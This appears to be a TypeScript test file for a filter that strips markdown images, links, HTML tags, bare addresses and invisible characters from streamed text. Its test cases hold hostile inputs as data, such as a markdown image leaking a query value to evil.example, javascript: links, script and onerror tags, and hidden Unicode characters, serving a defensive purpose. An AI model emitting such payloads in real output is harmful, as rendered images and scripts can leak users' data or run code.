import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { PlainTextFilter } from "./plain-text-filter.ts";

const sources = ["The IESO publishes at https://reports-public.ieso.ca/public/ each hour."];

function plain(pieces: string[]): string {
  const filter = new PlainTextFilter(sources);
  return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
}

describe("PlainTextFilter", () => {
  test.each([
    ["an image", "A ![chart](https://evil.example/?q=secret) b", "A chart b"],
    ["an image without words", "A ![](https://evil.example/x.png) b", "A  b"],
    ["a link", "Read [the page](https://evil.example/a_(b)) now", "Read the page now"],
    ["a link in an image's words", "[![alt](https://e.example/1)](https://e.example/2)!", "alt!"],
    ["a link that looks like a citation", "Hourly [1](https://evil.example).", "Hourly [1]."],
    ["a relative link", "[here](/api/admin?x=1)", "here"],
    ["a script link", "[here](javascript:alert(1))", "here"],
    ["a bare address", "See https://evil.example/?q=1, or www.evil.example now.", "See , or now."],
    ["an address without scheme", "See evil.example/x?q=1 and evil.example?q=1", "See and "],
    ["an address in angle brackets", "See <https://evil.example> b", "See b"],
    ["an address beside a citation", "At https://evil.example/x[1].", "At [1]."],
    ["a tag", 'A <img src="https://evil.example/x"> b<br/>c', "A  bc"],
    ["a script", "a<script>alert(1)</script>b", "aalert(1)b"],
    ["a tag that never closes", "a <img src=https://evil.example/x onerror=1", "a img src= onerror=1"],
    ["a comment", "a<!-- hidden > -- -> -->b", "ab"],
    ["a comment that never closes", "a<!-- hidden", "a"],
    ["a tag within a tag", "a<im<b>g src=x>b", "aimg src=x>b"],
    ["a tag that leaves one behind", "a<<b>img src=x>b", "aimg src=x>b"],
    ["characters that don't show", "a\u200Bb\u202Ec\u{E0041}d\u0000e", "abcde"],
    ["an address cut by them", "htt\u200Bps://evil.example/x b", "b"],
    ["a link made of what is left", "[a]<b>(https://evil.example)", "a"],
    ["a link around an address", "[a]https://e.example(/admin)", "[a] (/admin)"],
    ["half a surrogate pair", "a\ud800b", "ab"],
  ])("takes out %s", (_, text, expected) => {
    expect(plain([text])).toBe(expected);
  });

  test.each([
    ["citations", "Hourly [1], each day [2][3]. [1] It is (so) [see note]!"],
    ["comparisons", "Below < 5 MW, <5 MW or <= 5 MW and > 3 MW."],
    ["addresses of the sources", "Published at https://reports-public.ieso.ca/public/."],
    ["lists, emphasis and emoji", "- *One*\n- Two 😀\n\nThree! And/or 1.5/2 gCO2e/kWh e.g. U.S./Canada"],
    ["brackets that don't close", "an open [1 and (2"],
    ["a text in brackets of any length", `[${"word ".repeat(300)}]`],
  ])("leaves %s alone", (_, text) => {
    expect(plain([text])).toBe(text);
  });

  test("gives the same text however the stream is cut", () => {
    const parts = fc.constantFrom(
      "word", " ", "[", "]", "(", ")", "!", "<", ">", "<!--", "-->", "https://e.example/", "www.", "/", "[1]", "\n", "😀", "\u200B", "-", "img src=", "](", "![", "\ud83d", ".",
    );
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 40 }), fc.array(fc.nat(), { maxLength: 12 }), (words, cuts) => {
        const text = words.join("");
        const places = [0, ...cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b), text.length];
        expect(plain(places.slice(1).map((end, i) => text.slice(places[i], end)))).toBe(plain([text]));
      }),
    );
  });

  test("leaves no link, image, tag or strange address, whatever comes", () => {
    const parts = fc.constantFrom("a", " ", "[", "]", "(", ")", "!", "<", ">", "<b>", "<!--", "-->", "https:", "//e.example/x", "www.e", "[1]", "\u200B", "](", "![", "img");
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 40 }), (words) => {
        expect(plain([words.join("")])).not.toMatch(/\]\(|<[a-z/!?]|:\/\/|www\.|\u200B/i);
      }),
      { numRuns: 1_000 },
    );
  });

  test("takes time in proportion to the text, whatever it holds", () => {
    const hostile = ["[", "![", "](", "[](", "<", "<a", "<!--", "www.", "a.", "https://", "(", "[1", `${"a".repeat(64)}.`, " ["];
    for (const part of hostile) {
      const text = part.repeat(Math.ceil(200_000 / part.length));
      // What is taken out of the text leaves nothing longer than the text and the spaces that part brackets.
      expect(plain([text, "x"]).length).toBeLessThanOrEqual(text.length * 1.5 + 2);
    }
  });
});
